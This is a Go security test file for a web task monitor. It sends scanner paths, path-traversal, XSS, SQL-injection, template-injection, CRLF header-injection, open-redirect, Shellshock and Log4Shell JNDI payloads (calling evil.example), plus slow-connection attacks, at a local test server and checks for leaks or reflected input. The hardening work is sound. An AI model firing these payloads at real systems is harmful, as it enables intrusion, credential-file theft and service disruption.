package site_test

import (
	"bufio"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/evently/workers/app"
	"github.com/evently/workers/config"
	"github.com/evently/workers/internal/testkit"
)

// scanned are paths that scanners ask for: files of other programs, leftovers, and ways out
// of the folder.
var scanned = strings.Fields(`
/.git/HEAD /.git/config /.git/index /.gitignore /.svn/entries /.hg/store /.bzr/README /CVS/Root /.env /.env.local /.env.production /.env.bak /.npmrc /.dockerenv /.DS_Store
/.htaccess /.htpasswd /.ssh/id_rsa /.aws/credentials /.bash_history /.vscode/settings.json /.idea/workspace.xml /.well-known/security.txt /.well-known/openid-configuration
/admin /admin/ /admin/login /admin.php /administrator/ /adminer.php /phpmyadmin/ /pma/ /wp-admin/ /wp-login.php /wp-config.php /xmlrpc.php /wp-json/wp/v2/users /user/login /manager/html /host-manager/html
/console /h2-console /jmx-console /web-console /solr/admin /jenkins/script /script /actuator /actuator/env /actuator/heapdump /actuator/health /env /heapdump /trace /dump /beans /mappings
/debug /debug/pprof/ /debug/pprof/heap /debug/pprof/goroutine?debug=2 /debug/vars /debug/requests /server-status /server-info /status /nginx_status /stub_status /phpinfo.php /info.php /test.php /index.php /index.html /index.jsp
/backup /backup.zip /backup.tar.gz /backup.sql /dump.sql /db.sqlite /database.sql /site.tar.gz /www.zip /config.json /config.yml /config.php /configuration.php /settings.py /web.config /docker-compose.yml /Dockerfile /Makefile /go.mod /go.sum /main.go /package.json /composer.json /requirements.txt /README.md /CHANGELOG.md /LICENSE
/swagger /swagger.json /swagger-ui.html /openapi.json /api /api/ /api/v1 /api/v1/pods /api-docs /v2/_catalog /graphql /graphiql /metrics/ /healthz /readyz/x /livez/x /robots.txt /sitemap.xml /crossdomain.xml /clientaccesspolicy.xml /favicon.ico /apple-touch-icon.png /security.txt
/cgi-bin/ /cgi-bin/test.cgi /cgi-bin/php /scripts/root.exe /bin/sh /etc/passwd /proc/self/environ /windows/win.ini /boot.ini /latest/meta-data/ /owa/ /autodiscover/autodiscover.xml /remote/login /vpn/index.html /dana-na/ /boaform/admin/formLogin /HNAP1 /setup.cgi /shell /cmd /exec
/../etc/passwd /../../../../etc/passwd /assets/../../../etc/passwd /assets/..%2f..%2f..%2fetc%2fpasswd /assets/%2e%2e/%2e%2e/etc/passwd /assets/..%252f..%252fetc%252fpasswd /assets/..%c0%af..%c0%afetc/passwd /assets/%5c..%5c..%5cwindows%5cwin.ini /assets/....//....//etc/passwd /assets/..;/..;/etc/passwd
/assets /assets/ /assets/app.css /assets/app.css.bak /assets/app.js~ /assets/htmx.js.map /assets/%00 /assets/app.css%00.html /static/ /static/../main.go /public/ /files/ /uploads/ /download?file=../../etc/passwd /include?page=/etc/passwd
/tasks/../../etc/passwd /tasks/%2e%2e%2f%2e%2e%2fetc%2fpasswd /tasks/%00 /tasks/%0d%0aX-Injected:%20yes /tasks/a%2fb /workers/%2e%2e /queues/%2f /dead-letters/..%2f..%2f /templates/../../../etc/passwd /templates/..%2f..%2fconfig /deliveries/%27%20OR%201=1-- /deliveries/1;drop%20table%20users /deliveries/-1 /deliveries/99999999999999999999 /deliveries/1e9 /suppressions/%27
/tasks?page=-1 /tasks?limit=999999999 /tasks?limit=-1 /tasks?before=%27%22 /tasks?state=%00 /tasks?sort_by=;drop /api/tasks?limit=-1&offset=-1 /api/tasks?sort_by=%27 /api/tasks?received_start=x /api/task/info/%27 /api/workers?workername=%3Cscript%3E /was-it-sent?q=%00%ff /was-it-sent?q=%27%20OR%20%27%27=%27 /live?path=//evil.example /live?path=http://evil.example /live?url=/../../etc/passwd
//evil.example //evil.example/%2e%2e /%2f%2fevil.example /%5cevil.example /\evil.example ///evil.example/ /.evil.example /http://evil.example /https:/evil.example /@evil.example /;@evil.example /login?next=//evil.example /login?next=https://evil.example /?next=//evil.example /logout?next=//evil.example /login/oidc?next=//evil.example /login/oidc/callback?code=x&state=y
/%0d%0aSet-Cookie:%20injected=1 /?x=%0d%0aSet-Cookie:%20injected=1 /login?next=/%0d%0aX-Injected:%20yes /tasks;jsessionid=1 /tasks%20 /tasks%09 /tasks.json /tasks.php /tasks.bak /TASKS /Tasks/ /tasks// /tasks/. /./tasks /%74asks /%C0%AE%C0%AE/ /~root /~admin/ /?-s /?=PHPB8B5F2A0 /?XDEBUG_SESSION_START=1 /?debug=true /?test={{7*7}} /?q=${jndi:ldap://evil.example/a}
`)

// payloads try to become markup, script, a template, a header or a second line.
var payloads = []string{
	`"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `javascript:alert(1)//"onmouseover="alert(1)`, `</textarea></title></script><svg onload=alert(1)>`,
	"{{7*7}}${7*7}<%=7*7%>", "\x1b[31m\u202eevil\x00\xff", "a\r\nX-Injected: yes\r\nSet-Cookie: injected=1", `' OR '1'='1'; DROP TABLE users; --`, strings.Repeat("A", 20000),
}

// reflected are texts of payloads that no page may have as they are.
var reflected = []string{"<script>alert", "<img src=x", "<svg onload", `"onmouseover="`}

// odd are characters that a page shows as something visible. The values of fields keep them.
var odd = []string{"\x1b", "\u202e"}

// fields are tags, and the fields of forms with many lines.
var fields = regexp.MustCompile(`(?s)<textarea.*?</textarea>|<[^>]*>`)

// faults are texts that no answer may have.
var faults = []string{"goroutine ", "runtime error", "panic:", ".go:", "Index of /", "root:x:0", "[fonts]", "pq: ", "SQLSTATE", "syntax error", "k3y-of-the", "redigo", "<no value>", "ZgotmplZ", "injected=1\r"}

// prober sends raw requests: a client of Go would mend them.
type prober struct {
	t     *testing.T
	addr  string
	conn  net.Conn
	in    *bufio.Reader
	count int
}

func (p *prober) send(method, target, body string, headers ...string) (*http.Response, string) {
	p.t.Helper()
	var lastErr error
	for try := range 3 { // the server may have closed the connection
		if p.conn == nil {
			conn, err := net.DialTimeout("tcp", p.addr, 10*time.Second)
			if err != nil {
				p.t.Fatal(err)
			}
			p.conn, p.in = conn, bufio.NewReader(conn)
		}
		_ = p.conn.SetDeadline(time.Now().Add(60 * time.Second))
		text := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\nAccept: text/html\r\nContent-Length: %d\r\n%s\r\n%s", method, target, p.addr, len(body), strings.Join(headers, ""), body)
		_, _ = io.WriteString(p.conn, text) // the answer tells
		if reply, err := http.ReadResponse(p.in, &http.Request{Method: method}); err == nil {
			raw, err := io.ReadAll(io.LimitReader(reply.Body, 4<<20))
			if reply.StatusCode == http.StatusGatewayTimeout && try < 2 { // a worker, or Redis, was late
				p.close()
				continue
			}
			if err == nil || reply.StatusCode >= 400 {
				p.count++
				if reply.Close {
					p.close()
				}
				return reply, string(raw)
			}
			lastErr = err
		} else {
			lastErr = err
		}
		p.close()
	}
	if len(target)+len(body)+len(strings.Join(headers, "")) < 30000 { // the server may close while a large request is on its way
		p.t.Errorf("%s %.100q %.100q: no answer: %v", method, target, headers, lastErr)
	}
	return nil, ""
}

func (p *prober) close() {
	if p.conn != nil {
		p.conn.Close()
		p.conn = nil
	}
}

// look checks what every answer must be. headers says that the answer is one of ours, and
// not of net/http to a request that is none.
func (p *prober) look(what string, reply *http.Response, body string) {
	p.t.Helper()
	if reply == nil {
		return
	}
	if len(what) > 120 {
		what = what[:120] + "…"
	}
	if reply.StatusCode >= 500 {
		p.t.Errorf("%s: status %d: %.300s", what, reply.StatusCode, body)
	}
	for _, bad := range odd {
		if strings.HasPrefix(reply.Header.Get("Content-Type"), "text/html") && strings.Contains(body, bad) && strings.Contains(fields.ReplaceAllString(body, ""), bad) {
			p.t.Errorf("%s: the text of the page has %q", what, bad)
		}
	}
	for _, bad := range slices.Concat(reflected, faults) {
		if at := strings.Index(body, bad); at >= 0 {
			p.t.Errorf("%s: the answer has %q: … %s …", what, bad, body[max(0, at-80):min(len(body), at+80)])
		}
	}
	h := reply.Header
	if h.Get("X-Injected") != "" || strings.Contains(strings.Join(h.Values("Set-Cookie"), " "), "injected") {
		p.t.Errorf("%s: injected header: %v", what, h)
	}
	if to := h.Get("Location"); to != "" {
		if u, err := url.Parse(to); err != nil || u.Host != "" || u.Scheme != "" || !strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.HasPrefix(to, `/\`) {
			p.t.Errorf("%s: leads to %q", what, to)
		}
	}
	ours := h.Get("Content-Security-Policy") != "" && h.Get("X-Content-Type-Options") == "nosniff"
	if byNetHTTP := (reply.StatusCode == 400 || reply.StatusCode == 431 || reply.StatusCode == 505) && reply.Close; !ours && !byNetHTTP {
		p.t.Errorf("%s: status %d without headers: %v", what, reply.StatusCode, h)
	}
	for _, name := range []string{"Server", "X-Powered-By", "Access-Control-Allow-Origin"} {
		if h.Get(name) != "" {
			p.t.Errorf("%s: %s: %s", what, name, h.Get(name))
		}
	}
}

func (p *prober) try(method, target, body string, headers ...string) {
	p.t.Helper()
	reply, text := p.send(method, target, body, headers...)
	p.look(method+" "+strings.ToValidUTF8(target, "?"), reply, text)
}

// scan asks for what scanners ask for.
func (p *prober) scan() {
	for _, path := range scanned {
		p.try("GET", path, "")
	}
	for _, method := range []string{"TRACE", "TRACK", "OPTIONS", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "COPY", "SEARCH", "DEBUG", "CONNECT", "HEAD", "POST", "FOO", "get"} {
		for _, path := range []string{"/", "/tasks", "/login", "/assets/x", "/api/tasks", "/health", "*", "/nothing"} {
			if path == "*" && method != "OPTIONS" {
				continue
			}
			reply, body := p.send(method, path, "")
			if method == "HEAD" || path == "*" || method == "CONNECT" {
				continue
			}
			p.look(method+" "+path, reply, body)
			if method != "POST" && reply != nil && reply.StatusCode < 400 {
				p.t.Errorf("%s %s: status %d", method, path, reply.StatusCode)
			}
		}
	}
	long := strings.Repeat("x", 30000)
	for _, h := range []string{
		"X-Forwarded-Host: evil.example\r\n", "X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\nForwarded: for=127.0.0.1\r\n", "X-Original-URL: /admin\r\nX-Rewrite-URL: /admin\r\n", "X-HTTP-Method-Override: DELETE\r\n",
		"X-Forwarded-User: root\r\nX-Remote-User: root\r\nRemote-User: root\r\n", "Origin: https://evil.example\r\n", "Referer: https://evil.example/\"><script>alert(1)</script>\r\n", "User-Agent: () { :;}; echo x\r\n",
		"Cookie: evently_monitor=" + long + "\r\n", "Cookie: evently_notice=good.PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\r\n", "Cookie: evently_notice=x\"><script>alert(1)</script>.YQ\r\n", "Accept-Language: ../../etc/passwd\r\n",
		"Range: bytes=0-,0-,0-,0-\r\n", "If-None-Match: " + long + "\r\n", "Last-Event-ID: \"><script>alert(1)</script>\r\n", "HX-Request: true\r\nHX-Current-URL: https://evil.example/\r\n", "Expect: 100-continue\r\n", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
		"X-Long: " + strings.Repeat("y", 200000) + "\r\n", strings.Repeat("X-Many: 1\r\n", 20000), "Authorization: Basic \xff\xfe\r\n", "X Bad: 1\r\n",
	} {
		p.try("GET", "/", "", h)
	}
	for _, host := range []string{"evil.example", "localhost@evil.example", "127.0.0.1:1\r\nX-Injected: yes"} {
		conn, err := net.Dial("tcp", p.addr)
		if err != nil {
			p.t.Fatal(err)
		}
		fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\nAccept: text/html\r\nConnection: close\r\n\r\n", host)
		raw, _ := io.ReadAll(conn)
		conn.Close()
		if strings.Contains(string(raw), "evil.example") || strings.Contains(string(raw), "X-Injected") || strings.HasPrefix(string(raw), "HTTP/1.1 5") {
			p.t.Errorf("host %q: %.500s", host, raw)
		}
	}
	p.try("GET", "/"+strings.Repeat("a", 100000), "")
	p.try("GET", "/?"+strings.Repeat("a=1&", 20000), "")
	p.try("POST", "/login", strings.Repeat("a=1&", 50000), "Content-Type: application/x-www-form-urlencoded\r\n")
	p.try("POST", "/login", "--x\r\n", "Content-Type: multipart/form-data; boundary=x\r\n")
	p.try("POST", "/login", "%zz=%", "Content-Type: application/x-www-form-urlencoded\r\n")
	p.try("POST", "/login", "{}", "Content-Type: application/json\r\n")
}

// stall opens connections that go on too slowly, and returns how long the server kept them.
func stall(t *testing.T, addr, begin string, every time.Duration) time.Duration {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	started := time.Now()
	fmt.Fprint(conn, begin)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_ = conn.SetReadDeadline(time.Now().Add(40 * time.Second))
		_, _ = io.Copy(io.Discard, conn)
	}()
	tick := time.NewTicker(every)
	defer tick.Stop()
	for {
		select {
		case <-ended:
			return time.Since(started)
		case <-tick.C:
			_, _ = io.WriteString(conn, "x")
		}
	}
}

var (
	fieldName = regexp.MustCompile(`<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"`)
	queryName = regexp.MustCompile(`[?&;]([a-z_]+)=`)
)

// TestProbes asks the whole monitor, and the health port, what scanners ask, with payloads in
// every parameter, field and part of a path.
func TestProbes(t *testing.T) {
	t.Parallel()
	health, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	healthAddr := health.Addr().String()
	health.Close()
	w := startWorld(t, map[string]string{"MONITOR_ANONYMOUS_ROLE": "admin", "HEALTH_ADDR": healthAddr, "HEALTH_PPROF": "local"})
	w.fill(t)
	testkit.Eventually(t, 60*time.Second, "mails and dead letters", func() bool {
		conn := w.redis.Conn(0)
		defer conn.Close()
		n, err := conn.Do("HLEN", "_goworker.1.dead")
		return err == nil && n.(int64) >= 2
	})
	addr := strings.TrimPrefix(w.base, "http://")

	t.Run("slow clients", func(t *testing.T) {
		t.Parallel()
		for _, at := range []string{addr, healthAddr} {
			for begin, every := range map[string]time.Duration{
				"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ": time.Second,
				"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nname=": time.Second,
			} {
				t.Run(at+begin[:4], func(t *testing.T) {
					t.Parallel()
					if took := stall(t, at, begin, every); took > 30*time.Second {
						t.Errorf("the connection was kept for %v", took)
					}
				})
			}
		}
	})
	t.Run("health", func(t *testing.T) {
		p := &prober{t: t, addr: healthAddr}
		defer p.close()
		testkit.Eventually(t, 30*time.Second, "the health server listens", func() bool {
			conn, err := net.Dial("tcp", healthAddr)
			if err == nil {
				conn.Close()
			}
			return err == nil
		})
		p.scan()
		t.Logf("%d requests", p.count)
	})
	t.Run("monitor", func(t *testing.T) {
		p := &prober{t: t, addr: addr}
		defer p.close()
		p.scan()
		p.pages(w)
		p.actions(w)
		t.Logf("%d requests", p.count)
	})
}

// pages sends payloads in every parameter and part of a path that pages know.
func (p *prober) pages(w *world) {
	names := map[string]bool{"q": true, "search": true, "state": true, "page": true, "before": true, "after": true, "limit": true, "sort": true, "next": true, "json": true}
	for _, page := range w.pages {
		if strings.Contains(page.Pattern, "{") {
			continue
		}
		_, body := p.send("GET", page.Pattern, "")
		for _, form := range []*regexp.Regexp{fieldName, queryName} {
			for _, m := range form.FindAllStringSubmatch(body, -1) {
				names[m[1]] = true
			}
		}
	}
	p.t.Run("pages", func(t *testing.T) {
		for _, page := range w.pages {
			t.Run(page.Pattern, func(t *testing.T) {
				t.Parallel() // some wait for the answers of workers
				own := &prober{t: t, addr: p.addr}
				defer own.close()
				own.page(page.Pattern, names)
			})
		}
	})
}

// page sends payloads in all parameters, and in each one where others may be refused first.
func (p *prober) page(pattern string, names map[string]bool) {
	for _, payload := range payloads {
		payload = payload[:min(len(payload), 500)] // there are many names
		query := url.Values{}
		for name := range names {
			query.Set(name, payload)
		}
		p.try("GET", fill(pattern, payload)+"?"+query.Encode(), "")
	}
	for name := range names {
		if strings.Contains(pattern, "{") {
			break
		}
		p.try("GET", pattern+"?"+url.Values{name: {payloads[0] + payloads[1]}}.Encode(), "")
	}
}

var wildcard = regexp.MustCompile(`\{[^}]*\}`)

// fill puts a value into the wildcards of a pattern.
func fill(pattern, value string) string {
	return wildcard.ReplaceAllStringFunc(strings.ReplaceAll(pattern, "{$}", ""), func(string) string { return url.PathEscape(value) })
}

// actions sends payloads in every field of every form.
func (p *prober) actions(w *world) {
	cfg, err := config.Load(func(name string) (string, bool) { v, ok := w.env[name]; return v, ok })
	if err != nil {
		p.t.Fatal(err)
	}
	m, err := app.OpenMonitor(cfg, slog.New(slog.DiscardHandler))
	if err != nil {
		p.t.Fatal(err)
	}
	defer m.Close()
	names := map[string]bool{}
	for _, page := range w.pages {
		_, body := p.send("GET", fill(page.Pattern, "x"), "")
		for _, m := range fieldName.FindAllStringSubmatch(body, -1) {
			names[m[1]] = true
		}
	}
	p.t.Run("actions", func(t *testing.T) {
		for _, pattern := range m.Actions() {
			t.Run(pattern, func(t *testing.T) {
				t.Parallel() // commands wait for the answers of workers
				own := &prober{t: t, addr: p.addr}
				defer own.close()
				own.action(pattern, names)
			})
		}
	})
}

// action sends a form without fields, two with payloads, and one of another site.
func (p *prober) action(pattern string, names map[string]bool) {
	const form = "Content-Type: application/x-www-form-urlencoded\r\n"
	whole := strings.Join(slices.DeleteFunc(slices.Clone(payloads), func(s string) bool { return strings.Contains(s, "\x00") }), " ")
	for _, payload := range []string{whole, payloads[5]} {
		values := url.Values{"return": {"//evil.example"}, "next": {"//evil.example"}, "back": {"https://evil.example"}}
		for name := range names {
			values.Set(name, payload)
		}
		path := fill(pattern, payload[:min(len(payload), 300)])
		p.try("POST", path, values.Encode(), form)
		reply, _ := p.send("POST", path, values.Encode(), form, "Sec-Fetch-Site: cross-site\r\n")
		if reply != nil && reply.StatusCode != http.StatusForbidden {
			p.t.Errorf("POST %s of another site: status %d", pattern, reply.StatusCode)
		}
	}
	p.try("POST", fill(pattern, "x"), "", form)
}
